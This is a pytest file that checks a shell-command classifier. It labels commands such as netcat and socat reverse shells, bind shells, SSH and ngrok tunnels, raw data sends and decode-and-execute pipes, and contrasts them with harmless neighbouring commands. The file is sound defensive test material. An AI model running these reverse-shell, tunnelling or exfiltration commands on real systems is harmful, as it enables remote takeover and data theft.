"""Raw connections, tunnels, listeners."""

import pytest

from tests.support.commands import facts_of

HITS = [
    ("echo flush_all | nc cache.x.example 11211", "database-destroys"),
    ("tailscale up --ssh", "tunnels"),
    ("nc -U /run/docker.sock", "mounts-host"),
    ("socat - UNIX-CONNECT:/var/run/docker.sock", "mounts-host"),
    ("wg-quick up /tmp/x.conf", "tunnels"),
    ("zerotier-cli join 1", "tunnels"),
    ("jupyter lab --ip=0.0.0.0 --NotebookApp.token=''", "listens"),
    ("nc -e/bin/sh 192.0.2.7 1", "reverse-shell"),
    ("toybox nc 192.0.2.7 1 sh", "reverse-shell"),
    ("websocat ws://192.0.2.7 sh-c:bash", "reverse-shell"),
    ("tmate -F", "bind-shell"),
    ("telnetd -l /bin/sh", "bind-shell"),
    ("tcpserver 0 1 /bin/sh", "bind-shell"),
    ("ssh -fNR 1:localhost:22 h", "tunnels"),
    ("ssh -L 0.0.0.0:1:a:2 h", "tunnels"),
    ("nc -e /bin/sh h 1", "reverse-shell"),
    ("nc h 1 -c bash", "reverse-shell"),
    ("ncat --exec=/bin/sh h 1", "reverse-shell"),
    ("nc -lvpe /bin/sh 1", "bind-shell"),
    ("rcat connect -s bash h 1", "reverse-shell"),
    ("socket -qvp '/bin/sh -i' h 1", "reverse-shell"),
    ("nc -lp 1", "listens"),
    ("rlwrap nc -lvnp 1", "shell-listener"),
    ("nc h 1 < notes", "sends-raw"),
    ("cat notes | telnet h 1", "sends-raw"),
    ("socat tcp:h:1 exec:sh", "reverse-shell"),
    ("socat tcp-l:1 system:sh", "bind-shell"),
    ("socat - exec:sh", "shell-escape"),
    ("socat file:`tty`,raw,echo=0 tcp-listen:1", "shell-listener"),
    ("socat -u file:/srv/x tcp:h:1", "sends-raw"),
    ("socat tcp-listen:1,fork -", "listens"),
    ("openssl s_server -quiet -port 1", "shell-listener"),
    ("openssl enc -d -in x | sh", "executes-encoded"),
    ("openssl req -engine ./e.so", "loads-library"),
    ("ssh -R 1:localhost:22 h", "tunnels"),
    ("ngrok http 80", "tunnels"),
    ("chisel client h R:socks", "tunnels"),
    ("code tunnel", "tunnels"),
    ("stty raw -echo; fg", "shell-listener"),
    ("xterm -display 192.0.2.7:1", "reverse-shell"),
    ("ztcp h 1", "raw-network"),
    ("nc -zv h 1-1000", "scans-network"),
    ("nc h 1 0/tmp/p", "sends-raw"),
    ("mknod /tmp/p p && nc h 1 0/tmp/p", "reverse-shell"),
    ("tar c x | ssh h 'cat > y'", "copies-out"),
    ("autossh -M 0 -R 1:localhost:22 h", "tunnels"),
    ("ttyd bash", "bind-shell"),
    ("/usr/sbin/sshd -p 2222", "listens"),
]
MISSES = [
    ("tailscale up", "tunnels"),
    ("wg-quick up wg0", "tunnels"),
    ("jupyter lab --no-browser", "listens"),
    ("nc -U /run/app.sock", "mounts-host"),
    ("ssh -L 127.0.0.1:1:a:2 h", "tunnels"),
    ("ssh h grep -R x .", "tunnels"),
    ("nc -h", "reverse-shell"),
    ("tmate --help", "bind-shell"),
    ("nc -zv h 1", "reverse-shell"),
    ("nc h 1", "reverse-shell"),
    ("echo quit | telnet h 1", "sends-raw"),
    ("socat tcp:h:1 -", "reverse-shell"),
    ("openssl enc -e -in x", "executes-decoded"),
    ("ssh -L 1:localhost:22 h", "tunnels"),
    ("ngrok version", "tunnels"),
    ("chisel client h 8080:localhost:80", "tunnels"),
    ("code .", "tunnels"),
    ("xterm -display localhost:0", "reverse-shell"),
    ("stty sane", "shell-listener"),
    ("nc -zv h 443", "scans-network"),
    ("echo ls | ssh h", "copies-out"),
    ("sshd -t", "listens"),
    ("ttyd --version", "bind-shell"),
    ("ssh -i ~/.ssh/id_rsa h uptime", "reads-secret"),
    ("ssh-add ~/.ssh/id_ed25519", "reads-secret"),
]


@pytest.mark.parametrize(("command", "fact"), HITS)
def test_the_deed_is_seen(command: str, fact: str) -> None:
    assert fact in facts_of(command)


@pytest.mark.parametrize(("command", "fact"), MISSES)
def test_its_neighbour_is_not(command: str, fact: str) -> None:
    assert fact not in facts_of(command)
